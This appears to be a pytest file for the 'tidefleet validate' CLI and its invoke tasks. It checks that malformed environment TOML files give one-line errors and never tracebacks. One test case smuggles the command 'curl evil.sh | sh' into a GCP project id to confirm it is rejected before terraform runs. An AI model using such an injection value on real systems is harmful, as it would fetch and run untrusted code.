"""`tidefleet validate` and the invoke tasks that load an environment: a bad file of any kind
ends in one clear line and exit status 1, never a traceback."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from tidefleet.cli import main

ROOT = Path(__file__).resolve().parents[1]
DEV = (ROOT / "environments" / "dev.toml").read_text()
GCP_DEV = (ROOT / "environments" / "gcp-dev.toml").read_text()

# Two teams share a GPU pool, each with a quota of 0 GPUs: neither has idle quota to lend the other.
ZERO_QUOTAS = """region = "us-east-1"

[pools.gpu]
max = 8
container = "ghcr.io/acme/train:2026.11"
instance_types = [{ type = "g5.xlarge", gpus = 1 }]

[queues.vision-train]
pool = "gpu"
team = "vision"

[queues.nlp-train]
pool = "gpu"
team = "nlp"

[teams.vision]
quota = { gpus = 0 }

[teams.nlp]
quota = { gpus = 0 }
"""

# (case, file content, or None for no file, "dir" for a directory; the line expected)
BAD_FILES = [
    ("not TOML", b"region = \n", "not valid TOML"),
    ("not UTF-8", b'region = "\xff"\n', "not UTF-8 text"),
    ("a NUL byte", b'region = "\x00"\n', "not valid TOML"),
    ("a directory", "dir", "a directory, not an environment file"),
    ("missing", None, "env: no such file"),
    ("a project id that injects a command", GCP_DEV.replace('"acme-ml-dev"', '"acme-ml-dev\\ncurl evil.sh | sh"').encode(),
     "project: not a GCP project id (got 'acme-ml-dev\\ncurl evil.sh | sh')"),
    ("an infinite spot price", DEV.replace("[pools.cpu]\n", "[pools.cpu]\nspot_max_price = inf\n").encode(),
     "pools.cpu.spot_max_price: Input should be a finite number (got inf)"),
    ("an unknown region", DEV.replace('"us-east-1"', '"us-north-9"').encode(), "region: not a known aws region (got 'us-north-9')"),
    ("every team of a pool at a quota of 0", ZERO_QUOTAS.encode(),
     ("teams.vision.quota.gpus: 0 leaves the team's queues on pool gpu (vision-train) no slot, and no other team "
      "there has a quota to lend them one, so they never run; raise it to at least 1 (one slot)")),
]  # fmt: skip


def _bad_file(tmp_path: Path, content) -> Path:
    path = tmp_path / "bad.toml"
    if content == "dir":
        path.mkdir()
    elif content is not None:
        path.write_bytes(content)
    return path


@pytest.mark.parametrize("case,content,expected", BAD_FILES, ids=[c[0] for c in BAD_FILES])
def test_validate_exits_1_with_the_problem_and_no_traceback(tmp_path, case, content, expected):
    result = CliRunner().invoke(main, ["validate", str(_bad_file(tmp_path, content))])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert expected in result.output and "Traceback" not in result.output


def test_validate_accepts_every_shipped_environment():
    result = CliRunner().invoke(main, ["validate"], env={"TIDEFLEET_ENVIRONMENTS": str(ROOT / "environments")})
    assert result.exit_code == 0, result.output
    assert {line.split(":")[0] for line in result.output.splitlines()} >= {"dev", "prod", "sandbox", "gcp-dev", "bench"}


def test_an_unknown_environment_is_one_line_naming_the_name_not_a_file_and_several_problems_stay_a_list(tmp_path):
    """`--env prd` names no file: no made-up environments/prd.toml, no '1 problem(s)' header; a
    file's one problem is one line under its path; validate lists several, one per line."""
    folder = ROOT / "environments"
    known = ", ".join(sorted(p.stem for p in folder.glob("*.toml")))
    runner = CliRunner(env={"TIDEFLEET_ENVIRONMENTS": str(folder)})
    result = runner.invoke(main, ["status", "--env", "prd", "some-job"])
    assert result.exit_code == 1 and result.output == (
        f"Error: env: unknown environment (got 'prd'); known: {known} (in {folder}; or give a .toml file's path)\n")
    one = _bad_file(tmp_path, DEV.replace('"us-east-1"', '"us-north-9"').encode())
    result = runner.invoke(main, ["status", "--env", str(one), "some-job"])
    assert result.output == f"Error: {one}: region: not a known aws region (got 'us-north-9'); use one like 'us-east-1'\n"
    several = tmp_path / "several.toml"
    several.write_text("regoin = 1\nnmae = 2\n" + DEV)
    result = runner.invoke(main, ["validate", str(several)])
    assert result.exit_code == 1 and result.output == (
        f"{several}: 2 problem(s)\n  - regoin: unknown key; did you mean 'region'? (got 1)\n"
        "  - nmae: unknown key; did you mean 'name'? (got 2)\n")


def _invoke(*args: str, path: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "invoke", *args], check=False, cwd=ROOT, capture_output=True,
                          text=True, timeout=300, env={**os.environ, "PATH": path})  # fmt: skip


@pytest.mark.parametrize("task", ["synth", "scan"])
@pytest.mark.parametrize("case,content,expected", BAD_FILES, ids=[c[0] for c in BAD_FILES])
def test_invoke_tasks_end_bad_files_with_the_problem_not_a_traceback(tmp_path, task, case, content, expected):
    result = _invoke(task, "--env", str(_bad_file(tmp_path, content)), path=os.environ["PATH"])
    output = result.stdout + result.stderr
    assert result.returncode == 1 and expected in output and "Traceback" not in output, output


@pytest.mark.parametrize("task", ["plan", "deploy"])
def test_plan_and_deploy_refuse_a_bad_file_before_terraform_runs(tmp_path, task):
    # A terraform that records being run: validation must stop the task first.
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "terraform").write_text(f"#!/bin/sh\ntouch {tmp_path}/terraform-ran\n")
    (bin_dir / "terraform").chmod(0o755)
    bad = _bad_file(tmp_path, BAD_FILES[5][1])
    result = _invoke(task, "--env", str(bad), path=f"{bin_dir}:{os.environ['PATH']}")
    output = result.stdout + result.stderr
    assert result.returncode == 1 and "project: not a GCP project id" in output and "Traceback" not in output, output
    assert not (tmp_path / "terraform-ran").exists()


@pytest.mark.parametrize("folder,why", [("missing", "no such folder"), ("empty", "no .toml files there"),
                                        ("a-file", "a file, not a folder")])  # fmt: skip
@pytest.mark.parametrize("as_json", [False, True], ids=["text", "json"])
def test_validate_with_no_environment_files_exits_1_and_says_where_it_looked(tmp_path, folder, why, as_json):
    """Nothing checked is not "all good": a TIDEFLEET_ENVIRONMENTS that is missing, empty or a file."""
    where = tmp_path / folder
    if folder == "empty":
        where.mkdir()
    elif folder == "a-file":
        where.write_text(DEV)
    result = CliRunner().invoke(main, ["validate", *(["--json"] if as_json else [])],
                                env={"TIDEFLEET_ENVIRONMENTS": str(where)})  # fmt: skip
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    assert f"Error: no environment files in {where} (TIDEFLEET_ENVIRONMENTS): {why}; give environment names or .toml " \
           "paths, or set TIDEFLEET_ENVIRONMENTS to a folder of <name>.toml files" in result.output, result.output


def test_a_path_is_a_path_whatever_it_ends_in_and_a_name_stays_a_name(tmp_path, monkeypatch):
    """A folder, /dev/null, a .txt or .csv are paths, not environment names given a made-up
    `<environments>/<path>.toml`; a name is still found in the environments folder, even where a
    folder of the same name sits in the working directory."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TIDEFLEET_ENVIRONMENTS", str(ROOT / "environments"))
    (tmp_path / "dev.txt").write_text(DEV)
    (tmp_path / "items.csv").write_text("uri,size\ns3://b/a,1\n")
    (tmp_path / "folder").mkdir()
    (tmp_path / "sandbox").mkdir()  # beside `validate sandbox`: the name still wins
    directory = "a directory, not an environment file (got {!r}); give a .toml file or an environment name"
    cases = {
        "dev.txt": "dev: ok (aws us-east-1",
        str(tmp_path / "dev.txt"): "dev: ok (aws us-east-1",
        "folder/": directory.format("folder/"),
        str(tmp_path / "folder"): directory.format(str(tmp_path / "folder")),
        ".": directory.format("."),
        "/dev/null": "env: not a regular file (got '/dev/null'); give the path of an environment .toml file",
        "items.csv": "items.csv: not valid TOML (",
        "nosuch.csv": "env: no such file (got 'nosuch.csv'); give the path of an environment .toml file",
        "sandbox": "sandbox: ok (aws us-east-1",
        "dev": "dev: ok (aws us-east-1",
        "Dev": "env: unknown environment (got 'Dev'); known: ",
    }
    for given, says in cases.items():
        result = CliRunner().invoke(main, ["validate", given])
        assert result.exit_code == (0 if " ok " in says else 1) and "Traceback" not in result.output, (given, result.output)
        assert says in result.output and ".toml.toml" not in result.output, (given, result.output)
        if given not in ("sandbox", "dev", "Dev"):  # a path: no environments/<path>.toml made up for it
            assert f"environments/{given}" not in result.output and "environments//" not in result.output, result.output
    assert "an environment is a TOML file (<name>.toml)" in CliRunner().invoke(main, ["validate", "items.csv"]).output
    bad = tmp_path / "bad.toml"  # the file is named once
    bad.write_text("region = \n")
    result = CliRunner().invoke(main, ["validate", str(bad)])
    assert f"{bad}: not valid TOML (" in result.output and result.output.count("bad.toml") == 1, result.output


def test_an_empty_env_and_a_missing_environments_folder_are_said_as_such(monkeypatch):
    """`--env ""` read as the directory "."; a $TIDEFLEET_ENVIRONMENTS that does not exist was named
    twice ("no .toml files in /x (in /x ...)") and never called missing."""
    for given in ("", " "):
        empty = CliRunner().invoke(main, ["jobs", "--env", given])
        assert empty.exit_code == 1 and f"env: empty (got {given!r}); give an environment name (one of bench," in empty.output
        assert "directory" not in empty.output, empty.output
    monkeypatch.setenv("TIDEFLEET_ENVIRONMENTS", "/nonexistent/environments")
    missing = CliRunner().invoke(main, ["jobs", "--env", "sandbox"])
    assert missing.exit_code == 1 and ("unknown environment (got 'sandbox'): the folder /nonexistent/environments "
                                       "($TIDEFLEET_ENVIRONMENTS) does not exist; point it at your environments "
                                       "folder, or give a .toml file's path") in missing.output, missing.output
    monkeypatch.setenv("TIDEFLEET_ENVIRONMENTS", "/etc/passwd")  # there, and a file
    a_file = CliRunner().invoke(main, ["jobs", "--env", "sandbox"])
    assert "(got 'sandbox'): /etc/passwd ($TIDEFLEET_ENVIRONMENTS) is not a folder; point it" in a_file.output, a_file.output


def test_env_takes_the_same_paths(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sandbox.txt").write_text((ROOT / "environments" / "sandbox.toml").read_text())
    for given, says in (("sandbox.txt", "unknown pool(s) nope"), (str(tmp_path), "a directory, not an environment file"),
                        ("/dev/null", "not a regular file")):  # fmt: skip
        result = CliRunner().invoke(main, ["tick", "--env", given, "--pool", "nope"])
        assert result.exit_code in (1, 2) and says in result.output, (given, result.output)


def _pool_env(region: str, pool: str, cloud: str = "aws", project: str = "") -> str:
    """An environment with one CPU pool and one queue on it (GCP: in `project`)."""
    if cloud == "gcp":
        return (f'cloud = "gcp"\nregion = "{region}"\nproject = "{project}"\n[pools.{pool}]\nmax = 2\ncommand = "echo"\n'
                'image = "projects/debian-cloud/global/images/family/debian-12"\n'
                f'instance_types = [{{ type = "e2-standard-4" }}]\n[queues.work]\npool = "{pool}"\n')
    return (f'region = "{region}"\n[pools.{pool}]\nmax = 2\ncommand = "echo"\ninstance_types = [{{ type = "c7i.large" }}]\n'
            f'[queues.work]\npool = "{pool}"\n')


@pytest.mark.parametrize(("region_b", "expected"), [
    ("us-east-1", "would both create the Auto Scaling group 'tidefleet-a-b-c' (and "),
    # Another region still shares the account's IAM names.
    ("us-west-2", "would both create the IAM role 'tidefleet-a-b-c-node' (and "),
])  # fmt: skip
def test_validate_warns_of_two_environments_whose_cloud_names_clash(tmp_path, region_b, expected):
    """Env `a` with pool `b-c` and env `a-b` with pool `c` both name `tidefleet-a-b-c`: each file
    validates alone, and the apply of the second would stop at "already exists"."""
    (tmp_path / "a.toml").write_text(_pool_env("us-east-1", "b-c"))
    (tmp_path / "a-b.toml").write_text(_pool_env(region_b, "c"))
    result = CliRunner().invoke(main, ["validate"], env={"TIDEFLEET_ENVIRONMENTS": str(tmp_path)})
    assert result.exit_code == 0, result.output  # a warning: validate cannot know the accounts
    (line,) = [x for x in result.output.splitlines() if x.startswith("warning:")]
    assert expected in line and "more) if deployed to one AWS account (a: pools.b-c, a-b: pools.c); rename one of them (its " \
        "file) or the pool" in line
    as_json = json.loads(CliRunner().invoke(main, ["validate", "--json"], env={"TIDEFLEET_ENVIRONMENTS": str(tmp_path)}).output)
    assert as_json["ok"] and [expected in w for w in as_json["warnings"]] == [True]


def test_validate_sees_no_clash_between_gcp_projects_or_apart_names(tmp_path):
    (tmp_path / "a.toml").write_text(_pool_env("us-central1", "b-c", "gcp", "acme-one"))
    (tmp_path / "a-b.toml").write_text(_pool_env("us-central1", "c", "gcp", "acme-two"))
    (tmp_path / "z.toml").write_text(_pool_env("us-east-1", "b-c"))
    result = CliRunner().invoke(main, ["validate"], env={"TIDEFLEET_ENVIRONMENTS": str(tmp_path)})
    assert result.exit_code == 0 and "warning" not in result.output, result.output
    (tmp_path / "a-b.toml").write_text(_pool_env("us-central1", "c", "gcp", "acme-one"))
    result = CliRunner().invoke(main, ["validate"], env={"TIDEFLEET_ENVIRONMENTS": str(tmp_path)})
    assert "would both create the " in result.output and "if deployed to project acme-one" in result.output


def test_one_file_named_twice_is_one_environment_not_a_clash(monkeypatch):
    monkeypatch.chdir(ROOT)
    result = CliRunner().invoke(main, ["validate", "dev", "environments/dev.toml"])
    assert result.exit_code == 0 and "warning" not in result.output, result.output


def _typed_env(tmp_path: Path, *types: str) -> Path:
    """An AWS environment whose one pool has `types`, each with its own prices (as a type SPECS lacks needs)."""
    listed = ", ".join(f'{{ type = "{t}", on_demand_price = 1.0, spot_price = 0.4 }}' for t in types)
    path = tmp_path / "typed.toml"
    path.write_text(f'region = "us-east-1"\n[pools.cpu]\nmax = 2\ncommand = "echo"\ninstance_types = [{listed}]\n'
                    '[queues.work]\npool = "cpu"\n')  # fmt: skip
    return path


@pytest.fixture
def typed(tmp_path):
    return lambda *types: str(_typed_env(tmp_path, *types))


def test_validate_warns_of_an_aws_type_botocore_does_not_know_with_the_closest_name(typed):
    """A typo with prices set passed validate and synth; only plan's EC2 check (credentials) caught it.
    A warning, as a type newer than the installed botocore is real: the fix names both cases."""
    import botocore

    path = typed("c6i.larg", "m5.hyper", "c7a.large")  # c7a.large: real, not in prices.SPECS
    result = CliRunner().invoke(main, ["validate", path])
    assert result.exit_code == 0, result.output
    botocore_x = f"botocore {botocore.__version__}"
    fix = f"fix the type, or if it is a type newer than {botocore_x} knows, upgrade boto3"
    assert [x for x in result.output.splitlines() if x.startswith("warning:")] == [
        (f"warning: {path}: pools.cpu.instance_types[0].type: {botocore_x} knows no EC2 instance type 'c6i.larg' (did "
         f"you mean 'c6i.large'?); {fix}"),
        f"warning: {path}: pools.cpu.instance_types[1].type: {botocore_x} knows no EC2 instance type 'm5.hyper'; {fix}",
    ]
    as_json = json.loads(CliRunner().invoke(main, ["validate", "--json", path]).output)
    assert as_json["ok"] and len(as_json["warnings"]) == 2 and "'c6i.larg' (did you mean" in as_json["warnings"][0]


def test_botocores_types_are_read_only_for_a_type_prices_lacks_and_then_once(monkeypatch, typed):
    """Loading botocore's EC2 model takes about 0.2 s, and validate runs in many tests."""
    import tidefleet.cloud
    from tidefleet.cloud.aws.offerings import known_types

    monkeypatch.setattr(tidefleet.cloud, "aws_instance_types", lambda: pytest.fail("read botocore's types"))
    assert CliRunner().invoke(main, ["validate", "dev", "prod"]).exit_code == 0
    monkeypatch.undo()
    known_types.cache_clear()
    for _ in range(2):
        assert CliRunner().invoke(main, ["validate", typed("c7a.large")]).exit_code == 0
    assert known_types.cache_info().misses == 1


@pytest.mark.parametrize("zone", [None, "us-central1-b"])
def test_validate_warns_of_a_gcp_cluster_pool_whose_gangs_may_span_two_zones_until_it_has_a_zone(tmp_path, zone):
    """Its Spot and on-demand groups each pick a zone of their own (ANY_SINGLE_ZONE): a gang on
    both kinds of node may span two. `zone` pins both; without it the file still deploys."""
    text = _pool_env("us-central1", "train", "gcp", "acme-one").replace(
        'max = 2\n', 'max = 2\nplacement = "cluster"\n' + (f'zone = "{zone}"\n' if zone else ""))
    (tmp_path / "train.toml").write_text(text)
    result = CliRunner().invoke(main, ["validate", str(tmp_path / "train.toml")])
    assert result.exit_code == 0, result.output
    warnings = [x for x in result.output.splitlines() if x.startswith("warning:")]
    assert warnings == ([] if zone else [
        (f"warning: {tmp_path / 'train.toml'}: pools.train.zone: a cluster pool on gcp without a zone: its Spot and "
        "on-demand groups each pick their own, so a gang on both kinds of node may span two zones; set zone (e.g. "
        "us-central1-b, a zone that offers its types) to keep every node in one")])


def test_validate_warns_of_gpus_a_pool_pays_for_and_never_uses(tmp_path):
    """A GPU type with fewer GPUs declared than it has, or none (then no NVIDIA driver either): the
    pool runs, on the CPUs, and pays for the rest. A warning: it deploys and works."""
    path = tmp_path / "gpus.toml"
    path.write_text('region = "us-east-1"\n[pools.cpu]\nmax = 8\ncommand = "echo"\ninstance_types = [{ type = "g5.xlarge" }, '
                    '{ type = "g6e.xlarge", on_demand_price = 1.9, spot_price = 0.7 }]\n'
                    '[pools.gpu]\nmax = 8\nslots_per_unit = 4\ncommand = "echo"\n'
                    'instance_types = [{ type = "p4d.24xlarge", gpus = 4 }]\n[queues.work]\npool = "cpu"\n'
                    '[queues.train]\npool = "gpu"\nslots_per_item = 4\n')  # fmt: skip
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code == 0, result.output
    assert [x.removeprefix(f"warning: {path}: ") for x in result.output.splitlines() if x.startswith("warning:")] == [
        ("pools.cpu.instance_types[0].gpus: g5.xlarge has 1 GPU (got none); the pool would pay for 1 that never run "
         "an item, and the pool would boot no NVIDIA driver; set gpus = 1 (slots_per_item takes several per item), or pick a "
         "type without GPUs"),
        ("pools.cpu.instance_types[1].gpus: g6e.xlarge is a GPU type (family g6e) (got none); its GPUs would never "
         "run an item, and the pool would boot no NVIDIA driver; set gpus to its GPU count, or pick a type without GPUs"),
        ("pools.gpu.instance_types[0].gpus: p4d.24xlarge has 8 GPUs (got 4); the pool would pay for 4 that never run "
         "an item; set gpus = 8 (slots_per_item takes several per item), or pick a type without GPUs"),
    ]
